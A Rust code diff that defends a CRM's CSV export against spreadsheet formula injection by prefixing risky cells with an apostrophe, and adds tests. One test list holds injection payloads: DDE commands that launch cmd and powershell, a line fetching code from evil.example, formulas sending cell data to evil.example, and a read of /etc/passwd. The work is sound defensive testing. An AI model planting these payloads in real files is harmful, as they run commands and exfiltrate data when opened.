@@ -32,21 +32,47 @@ fn csv(rows: &[Vec<String>]) -> String {
     text
 }
 
-/// A field that a spreadsheet takes for nothing but text or a number: one that begins like a formula could run when it is
-/// opened, and what people write in the CRM ends up here.
+/// A field that a spreadsheet takes for nothing but text or a number: a formula could run when the file is opened, and what
+/// people write in the CRM ends up here.
 fn quoted(field: &str) -> String {
-    let is_formula = field.starts_with(['=', '+', '-', '@', '\t', '\r']);
-    let guard = if is_formula { "'" } else { "" };
-    if is_formula || field.contains([',', '"', '\n', '\r']) {
-        format!("\"{guard}{}\"", field.replace('"', "\"\""))
+    let field = without_formulas(field);
+    if field.contains([',', '"', '\'', ';', '\t', '\n', '\r']) {
+        format!("\"{}\"", field.replace('"', "\"\""))
     } else {
-        field.to_owned()
+        field
     }
+}
+
+/// A text with an apostrophe before whatever a spreadsheet could take for a formula, as OWASP advises. Where the computer's list
+/// separator is another than the comma, spreadsheets begin a new cell behind each of those in the middle of a text.
+fn without_formulas(text: &str) -> String {
+    let begins_with_break = text.starts_with(['\t', '\r', '\n']);
+    let mut safe = String::from(if begins_with_break { "'" } else { "" });
+    for cell in text.split_inclusive([';', '\t', '\r', '\n']) {
+        if is_formula(cell) {
+            safe.push('\'');
+        }
+        safe.push_str(cell);
+    }
+    safe
+}
+
+/// Whether a spreadsheet could take a cell for a formula, once it has left out what it leaves out before one. A number is none.
+fn is_formula(cell: &str) -> bool {
+    const INVISIBLE: [char; 5] = ['\u{200b}', '\u{200e}', '\u{200f}', '\u{2060}', '\u{feff}'];
+    let is_passed = |c: char| c.is_whitespace() || c.is_control() || c == '"' || INVISIBLE.contains(&c);
+    let cell = cell.trim_start_matches(is_passed);
+    let is_negative_number = cell.strip_prefix('-').is_some_and(|number| {
+        let is_of_number =
+            |c: char| c.is_ascii_digit() || c.is_whitespace() || matches!(c, '.' | ',' | ';' | '\u{2019}');
+        number.starts_with(|c: char| c.is_ascii_digit()) && number.chars().all(is_of_number)
+    });
+    cell.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']) && !is_negative_number
 }
 
 #[cfg(test)]
 mod tests {
-    use super::csv;
+    use super::{csv, without_formulas};
 
     fn row(fields: &[&str]) -> Vec<String> {
         fields.iter().map(|field| (*field).to_owned()).collect()
@@ -69,5 +95,125 @@ mod tests {
     fn what_begins_like_a_formula_is_only_text() {
         let text = csv(&[row(&["=HYPERLINK(\"x\")", "@x", "+1", "−5.00"])]);
         assert_eq!(text, "\u{feff}\"'=HYPERLINK(\"\"x\"\")\",\"'@x\",\"'+1\",−5.00\r\n");
+    }
+
+    #[test]
+    fn numbers_stay_numbers() {
+        for number in [
+            "-5",
+            "-5.00",
+            "-1,234.50",
+            "-1 234,50",
+            "-1’234.50",
+            "0",
+            "5.5",
+            "−5.00",
+        ] {
+            assert_eq!(without_formulas(number), number);
+        }
+    }
+
+    #[test]
+    fn words_stay_as_they_are() {
+        for text in [
+            "a-b",
+            "a = b",
+            "1+1",
+            "me@acme.example",
+            "a; b",
+            "a;b",
+            "Keller & Sons",
+            "'quoted'",
+            "5 - 3",
+            "a\r\nb",
+            "–",
+            "",
+        ] {
+            assert_eq!(without_formulas(text), text);
+        }
+    }
+
+    /// From OWASP's page on CSV injection, and from what was published to get around its advice.
+    const FORMULAS: [&str; 40] = [
+        "=1+1",
+        "+1+1",
+        "-1+1",
+        "@SUM(1+1)",
+        "-2+3+cmd|' /C calc'!A0",
+        "=cmd|' /C calc'!A0",
+        "=cmd|'/C powershell IEX(wget evil.example/x)'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "=DDE(\"cmd\",\"/C calc\",\"x\")",
+        "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
+        "=HYPERLINK(\"https://evil.example/?\"&A1,\"Error\")",
+        "=IMPORTXML(CONCAT(\"https://evil.example/?\",A1),\"//a\")",
+        "=IMAGE(\"https://evil.example/\"&A1)",
+        "=WEBSERVICE(\"https://evil.example/\"&A1)",
+        "=IMPORTDATA(\"https://evil.example\")",
+        "='file:///etc/passwd'#$passwd.A1",
+        "＝1+1",
+        "＋1+1",
+        "－1+1",
+        "＠SUM(1+1)",
+        "-",
+        "--1",
+        "-(1)",
+        "- 5",
+        "-A1",
+        "+49 341 5550",
+        "\t=1+1",
+        "\r=1+1",
+        "\n=1+1",
+        " =1+1",
+        "\u{a0}=1+1",
+        "\u{3000}=1+1",
+        "\0=1+1",
+        "\u{feff}=1+1",
+        "\u{200b}=1+1",
+        "\"=1+1\"",
+        "a\n=1+1",
+        "a\r\n  @SUM(1)",
+        "x;=cmd|' /C calc'!A0;y",
+        "x\t=1+1;\"-1+1;\" ;+1",
+    ];
+
+    #[test]
+    fn no_cell_is_a_formula_whatever_separates_the_cells() {
+        for formula in FORMULAS {
+            let line = csv(&[row(&["INV-1", formula, formula])]);
+            for separator in [',', ';', '\t'] {
+                for cell in cells(&line, separator) {
+                    let first = cell
+                        .chars()
+                        .find(|c| c.is_alphanumeric() || "'=+-@＝＋－＠".contains(*c));
+                    let is_safe = first.is_none_or(|c| c.is_alphanumeric() || c == '\'');
+                    assert!(is_safe, "{formula:?} makes the cell {cell:?} by {separator:?}");
+                }
+            }
+            assert_eq!(cells(&line, ',').len(), 3, "{formula:?} makes more cells than one");
+        }
+    }
+
+    /// The cells of a file, as a spreadsheet with that separator reads them: what begins with a quotation mark goes on to the
+    /// next that is not doubled, and whatever follows that up to the separator belongs to the cell.
+    fn cells(file: &str, separator: char) -> Vec<String> {
+        let mut characters = file.trim_start_matches('\u{feff}').trim_end().chars().peekable();
+        let mut cells = vec![String::new()];
+        let (mut begins, mut is_quoted) = (true, false);
+        while let Some(character) = characters.next() {
+            let cell = cells.last_mut().unwrap();
+            match character {
+                '"' if is_quoted && characters.next_if_eq(&'"').is_some() => cell.push('"'),
+                '"' if is_quoted || begins => is_quoted = !is_quoted,
+                other if !is_quoted && (other == separator || matches!(other, '\r' | '\n')) => {
+                    cells.push(String::new());
+                    begins = true;
+                    continue;
+                }
+                other => cell.push(other),
+            }
+            begins = false;
+        }
+        cells
     }
 }
